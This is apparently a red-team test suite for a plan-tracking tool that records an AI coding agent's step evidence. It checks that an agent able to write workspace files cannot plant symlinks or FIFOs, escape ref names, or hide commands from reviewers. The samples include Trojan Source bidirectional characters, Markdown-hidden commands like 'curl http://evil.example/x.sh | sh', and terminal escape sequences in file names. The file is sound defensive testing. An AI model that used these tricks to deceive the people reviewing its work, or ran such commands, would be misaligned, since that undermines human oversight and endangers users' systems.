// Red-team attacks on issue 30's step evidence, checks and drift (an agent that can write any file
// of the workspace and its git folder), in real repositories with the machine's git. Each test is an
// attack: it fails if the attack works.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { evidenceFlag, evidenceSummary, LIMITS, parseClaim, parsePlan, type PlanDocument, readChangedLine, stepCheck } from '../../../src/core';
import { checkStandings, checkTail, lastDrift, lookForDrift, openNodeStore, readPlanState, TAIL_LINES, verifyPlan } from '../../../src/node';
import { sealedByUser } from '../../helpers/approvals';
import { driftedPaths, writePlanState } from '../../../src/node/work/planChecks';
import { GitEvidence, pinRef } from '../../../src/node/work/gitEvidence';
import { createHash } from 'node:crypto';
import { recordStepEvent } from '../../../src/node/work/stepReports';
import { evidenceReport, evidenceText } from '../../../src/cli/commands/evidence';

const ID = 'PLAN-0000beef';

describe('red team: evidence, checks and drift attacks (real git)', function () {
  this.timeout(30_000);
  let dir: string;
  let other: string;
  const git = (cwd: string, ...args: string[]) => {
    const r = spawnSync('git', args, { cwd, encoding: 'utf8' });
    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
    return r.stdout;
  };
  const repo = (d: string, files: Record<string, string>) => {
    git(d, 'init', '-q');
    git(d, 'config', 'user.email', 't@example.com');
    git(d, 'config', 'user.name', 'T');
    for (const [f, t] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(d, f)), { recursive: true });
      fs.writeFileSync(path.join(d, f), t);
    }
    git(d, 'add', '-A');
    git(d, 'commit', '-q', '-m', 'base');
  };

  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pi-plans-rt-'));
    other = fs.mkdtempSync(path.join(os.tmpdir(), 'pi-plans-rt-other-'));
    repo(dir, { 'src/a.ts': 'export const a = 1;\n' });
    repo(other, { 'precious.txt': 'mine\n' });
  });
  afterEach(() => {
    fs.rmSync(dir, { recursive: true, force: true });
    fs.rmSync(other, { recursive: true, force: true });
  });

  describe('the kept index (.git/pi-plans)', () => {
    it('a planted .git/pi-plans link to another repository\'s git folder never replaces that repository\'s index', async () => {
      const otherIndex = path.join(other, '.git', 'index');
      const before = fs.readFileSync(otherIndex);
      fs.symlinkSync(path.join(other, '.git'), path.join(dir, '.git', 'pi-plans'));
      const g = await GitEvidence.open(dir);
      await g.snapshot();
      assert.deepEqual(fs.readFileSync(otherIndex), before, 'the other repository\'s index was rewritten');
      assert.equal(git(other, 'ls-files').trim(), 'precious.txt');
      assert.deepEqual(fs.readdirSync(path.join(other, '.git')).filter((n) => n.startsWith('index-')), [], 'temporary index files were written outside the repository');
    });

    it('a planted .git/pi-plans/index link to a file outside leaves that file as it was', async () => {
      const outside = path.join(other, 'precious.txt');
      fs.mkdirSync(path.join(dir, '.git', 'pi-plans'));
      fs.symlinkSync(outside, path.join(dir, '.git', 'pi-plans', 'index'));
      const g = await GitEvidence.open(dir);
      const tree = await g.snapshot();
      assert.match(tree, /^[0-9a-f]{40}$/);
      assert.equal(fs.readFileSync(outside, 'utf8'), 'mine\n');
    });
    it('a FIFO planted as .git/pi-plans/index does not hang a snapshot (the end of a step takes one)', () => {
      fs.mkdirSync(path.join(dir, '.git', 'pi-plans'));
      assert.equal(spawnSync('mkfifo', [path.join(dir, '.git', 'pi-plans', 'index')]).status, 0);
      const code = `const { GitEvidence } = require(${JSON.stringify(path.resolve('src/node/work/gitEvidence.ts'))}); GitEvidence.open(${JSON.stringify(dir)}).then((g) => g.snapshot()).then((t) => console.log(t));`;
      const r = spawnSync(process.execPath, ['--import', 'tsx', '-e', code], { encoding: 'utf8', timeout: 15_000 });
      assert.equal(r.signal, null, 'the snapshot hung on the FIFO');
      assert.match(r.stdout.trim(), /^[0-9a-f]{40}$/);
    });
  });

  describe('ref names', () => {
    it('a symbolic ref planted at a pin never moves the ref it names (a tag, a branch)', async () => {
      git(dir, 'tag', 'v1');
      const tag = git(dir, 'rev-parse', 'v1').trim();
      const pin = pinRef('PLAN-0000beef', 'S001', 'before');
      git(dir, 'symbolic-ref', pin, 'refs/tags/v1');
      const g = await GitEvidence.open(dir);
      await g.pin('PLAN-0000beef', 'S001', 'before', await g.snapshot());
      assert.equal(git(dir, 'rev-parse', 'v1').trim(), tag, 'the tag now names the snapshot');
      assert.equal(git(dir, 'cat-file', '-t', pin).trim(), 'tree');
    });


    it('a plan or step id cannot leave refs/pi-plans/evidence/', () => {
      for (const [p, s] of [['PLAN-1/../../heads/main', 'S001'], ['PLAN-1', '..'], ['PLAN-1', 'S001/../../x'], ['PLAN-1', 'S001 '], ['PLAN-1', ''], ['..', 'S001']]) {
        assert.throws(() => pinRef(p, s, 'before'), /not a plan and step id/);
      }
    });
  });

  describe('the checks state file (.pi/plans/checks/<id>.json)', () => {
    const checks = () => path.join(dir, '.pi', 'plans', 'checks');
    const plant = (state: unknown) => {
      fs.mkdirSync(checks(), { recursive: true });
      fs.writeFileSync(path.join(checks(), `${ID}.json`), JSON.stringify(state));
    };
    const doc = (status = 'executing') =>
      ({ fm: { id: ID, status, approved_hash: 'h1' }, steps: [{ id: 'S001', status: 'in_progress', target: 'src/a.ts', checkSource: '1. [ ] S001 Do (edit: modify → src/a.ts)\n   verify: true' }] }) as unknown as PlanDocument;

    it('is never written through a linked checks folder', () => {
      fs.mkdirSync(path.join(dir, '.pi', 'plans'), { recursive: true });
      fs.symlinkSync(other, checks());
      const before = fs.readdirSync(other).sort();
      assert.throws(() => writePlanState(dir, { v: 1, plan: ID, checks: {} }), /link/);
      assert.deepEqual(fs.readdirSync(other).sort(), before);
    });

    it('never creates a file through a planted .gitignore link', () => {
      fs.mkdirSync(checks(), { recursive: true });
      const target = path.join(other, 'created-through-link');
      fs.symlinkSync(target, path.join(checks(), '.gitignore'));
      try {
        writePlanState(dir, { v: 1, plan: ID, checks: {} });
      } catch {
        // refusing is fine too; writing through the link is not
      }
      assert.equal(fs.existsSync(target), false);
    });

    it('a state file that is a FIFO does not hang its reader (the hook reads it)', () => {
      fs.mkdirSync(checks(), { recursive: true });
      const made = spawnSync('mkfifo', [path.join(checks(), `${ID}.json`)]);
      assert.equal(made.status, 0);
      const code = `const { readPlanState } = require(${JSON.stringify(path.resolve('src/node/work/planChecks.ts'))}); console.log(JSON.stringify(readPlanState(${JSON.stringify(dir)}, ${JSON.stringify(ID)})));`;
      const r = spawnSync(process.execPath, ['--import', 'tsx', '-e', code], { encoding: 'utf8', timeout: 15_000 });
      assert.equal(r.signal, null, 'the reader hung on the FIFO');
      assert.equal(JSON.parse(r.stdout).plan, ID);
    });

    it('fields of the wrong type crash no reader (the hook, the explorer, show --evidence, the plan editor)', async () => {
      for (const drift of [{ digest: 'h1', drifted: 'x', targets: null }, { digest: 'h1', drifted: [null, 5], targets: 'x', statuses: 3 }, { digest: 'h1', targets: { 'src/a.ts': 5 } }]) {
        plant({ v: 1, plan: ID, checks: { S001: { command: 'true', tail: 5, tree: 7, targets: null, line: 9 }, toString: 3 }, drift });
        assert.ok(Array.isArray(driftedPaths(dir, ID, 'h1')));
        assert.ok(Array.isArray(lastDrift(dir, doc())));
        const tail = checkTail(dir, ID, 'S001');
        assert.ok(tail === undefined || (Array.isArray(tail) && tail.every((l) => typeof l === 'string')), 'a tail that is not lines');
        await checkStandings(dir, doc());
        const look = await lookForDrift(dir, doc(), '2026-11-26T20:00:00.000Z');
        assert.ok(look.drifted.every((d) => typeof d.path === 'string'));
        assert.equal(readPlanState(dir, ID).plan, ID);
      }
      // A tail far longer than the store keeps is cut to its last lines (the plan editor draws them all).
      plant({ v: 1, plan: ID, checks: { S001: { command: 'true', at: 'now', tail: Array.from({ length: 100_000 }, (_, i) => `line ${i}`) } } });
      assert.deepEqual(checkTail(dir, ID, 'S001'), Array.from({ length: TAIL_LINES }, (_, i) => `line ${100_000 - TAIL_LINES + i}`));
    });
  });

  describe('crafted record lines', () => {
    // ", x (new, +1" repeated: each start of the file list's lazy match scanned the rest of the line (quadratic).
    const long = ', x (new, +1'.repeat(5000) + ' · tree aaaa..bbbb';

    it('a hand-written `> Changed:` line longer than the store ever writes reads as not recorded, at once', () => {
      assert.ok(long.length > LIMITS.note);
      const t = Date.now();
      const facts = readChangedLine(long);
      assert.ok(Date.now() - t < 1000, `took ${Date.now() - t} ms`);
      assert.equal(facts.recorded, false);
    });

    it('a plan whose steps carry such lines does not hang the readers of its flags (plan editor, explorer, show --evidence)', () => {
      let steps = '';
      for (let i = 1; i <= 2; i++) steps += `${i}. [x] S00${i} Do it\n   > Changed: ${long}\n   > Claimed: ${'a at 2026-11-26T00:00Z (taken over from '.repeat(1400)}\n`;
      const doc = parsePlan(`---\nid: ${ID}\ntitle: "T"\nstatus: completed\nversion: 1\ncreated_at: 2026-11-26T17:00:00.000Z\nupdated_at: 2026-11-26T17:00:00.000Z\n---\n\n## Goal\nG\n\n## Steps\n${steps}`);
      assert.ok(doc.steps.every((s) => (s.record?.Changed?.length ?? 0) > LIMITS.note), 'the crafted lines were not read as records');
      const t = Date.now();
      assert.deepEqual(doc.steps.map((s) => evidenceFlag(s)), ['no evidence', 'no evidence']);
      evidenceSummary(doc.steps);
      for (const s of doc.steps) assert.equal(parseClaim(s.record?.Claimed), undefined);
      assert.ok(Date.now() - t < 2000, `took ${Date.now() - t} ms`);
    });
  });

  describe("the hooks' step reports (step-reports/<workspace>/<session>.steps.jsonl in the user's state folder)", () => {
    const hash = (s: string) => createHash('sha256').update(s).digest('hex').slice(0, 40);
    const events = (session: string) => path.join(process.env.XDG_STATE_HOME!, 'pi-plans', 'step-reports', hash(fs.realpathSync(dir)), `${hash(`claude\0${session}`)}.steps.jsonl`);

    it('a FIFO named like a report file does not hang the end of a step (its evidence reads the reports)', () => {
      fs.mkdirSync(path.dirname(events('s1')), { recursive: true });
      assert.equal(spawnSync('mkfifo', [events('s1')]).status, 0);
      const code = `const { readStepEvents } = require(${JSON.stringify(path.resolve('src/node/work/stepReports.ts'))}); console.log(JSON.stringify(readStepEvents(${JSON.stringify(dir)}, ${JSON.stringify(ID)}, 'S001')));`;
      const r = spawnSync(process.execPath, ['--import', 'tsx', '-e', code], { encoding: 'utf8', timeout: 15_000 });
      assert.equal(r.signal, null, 'the reader hung on the FIFO');
      assert.deepEqual(JSON.parse(r.stdout), []);
    });

    it('a report is never appended through a link planted as the session\'s report file', () => {
      fs.mkdirSync(path.dirname(events('s1')), { recursive: true });
      const outside = path.join(other, 'precious.txt');
      fs.symlinkSync(outside, events('s1'));
      try {
        recordStepEvent(dir, 'claude', 's1', { plan: ID, step: 'S001', kind: 'command', at: '2026-11-26T20:00:00.000Z' });
      } catch {
        // refusing is fine; writing through the link is not
      }
      assert.equal(fs.readFileSync(outside, 'utf8'), 'mine\n');
    });
  });

  describe('a check shown otherwise than it runs', () => {
    // Trojan Source (CVE-2021-42574): bidirectional controls reorder what a reviewer sees. Shown
    // (an RTL isolate puts the "#" isolate first): `echo ok #;touch pwned`, a comment. Run: `echo ok ;touch pwned #`.
    const hidden = 'echo ok \u2067;touch pwned \u2066#\u2069\u2069';

    it('a verify: line holding bidirectional or invisible characters names no check', () => {
      for (const command of [hidden, 'echo ok\u202e ;hs|x', 'echo ok\u200b;touch pwned', 'echo ok\u0008\u0008;touch pwned']) {
        assert.equal(stepCheck({ checkSource: `1. [ ] S001 Do it\n   verify: ${command}\n` }), undefined, JSON.stringify(command));
      }
      assert.equal(stepCheck({ checkSource: '1. [ ] S001 Do it\n   verify: npm test -- health\t# ok\n' }), 'npm test -- health\t# ok');
    });

    it('a verify: line Markdown shows otherwise than it is names no check (inline HTML, an entity, a code span)', () => {
      // Shown in a Markdown preview as `verify: npm test`, `verify: echo "rm -rf x"`, `verify: npm test ; touch pwned` in code.
      for (const command of ['npm test <!-- ; touch pwned -->', 'echo &quot;touch pwned&quot;', 'npm test `; touch pwned`', 'echo ok <span hidden>; touch pwned</span>', 'curl [http://example.com](http://evil.example/x.sh) | sh', 'curl <http://evil.example/x.sh> | sh']) {
        assert.equal(stepCheck({ checkSource: `1. [ ] S001 Do it\n   verify: ${command}\n` }), undefined, command);
      }
      // A web address shows as written (GFM links it, its text unchanged); a link written as Markdown does not.
      for (const command of ['npm test && echo ok | cat > out.txt', 'npm test -- src/*.ts', 'make check 2>&1', 'curl -fsS http://localhost:3000/health', 'curl -f https://example.com/a?b=1 && echo up']) {
        assert.equal(stepCheck({ checkSource: `1. [ ] S001 Do it\n   verify: ${command}\n` }), command);
      }
    });

    it('pi-plans verify runs no such command on an approved plan', async () => {
      const text = `---\nid: ${ID}\ntitle: "T"\nstatus: approved\nversion: 2\ncreated_at: 2026-11-26T17:00:00.000Z\nupdated_at: 2026-11-26T17:00:00.000Z\nstep_seq: 1\n---\n\n## Goal\nG\n\n## Steps\n1. [ ] S001 Check it\n   verify: ${hidden}\n`;
      fs.mkdirSync(path.join(dir, '.pi', 'plans'), { recursive: true });
      fs.writeFileSync(path.join(dir, '.pi', 'plans', `${ID}.md`), await sealedByUser(text, dir));
      await assert.rejects(verifyPlan(await openNodeStore(dir, { index: false }), ID, { actor: 'cli' }), /no step with a check/);
      assert.equal(fs.existsSync(path.join(dir, 'pwned')), false, 'the hidden command ran');
    });
  });

  describe('pi-plans show --evidence at a terminal', () => {
    it('a file name with an escape sequence or a carriage return cannot redraw the file list', async () => {
      const before = git(dir, 'rev-parse', 'HEAD^{tree}').trim();
      // Drawn raw, "\x1b[2K\r" erases "added    evil.sh" and the terminal shows "readme.md +1 −0".
      const evil = 'evil.sh\x1b[2K\rreadme.md';
      fs.writeFileSync(path.join(dir, evil), 'evil\n');
      const g = await GitEvidence.open(dir);
      const after = await g.snapshot();
      const doc = parsePlan(`---\nid: ${ID}\ntitle: "T"\nstatus: completed\nversion: 1\ncreated_at: 2026-11-26T17:00:00.000Z\nupdated_at: 2026-11-26T17:00:00.000Z\n---\n\n## Goal\nG\n\n## Steps\n1. [x] S001 Do it\n   > Changed: readme.md (+1 −0) · 1 file +1 −0 · tree ${before}..${after}\n`);
      const text = evidenceText(await evidenceReport(doc, dir));
      assert.match(text, /evil\.sh/);
      // eslint-disable-next-line no-control-regex -- the attack is control characters
      assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f]/, JSON.stringify(text));
    });
  });
});
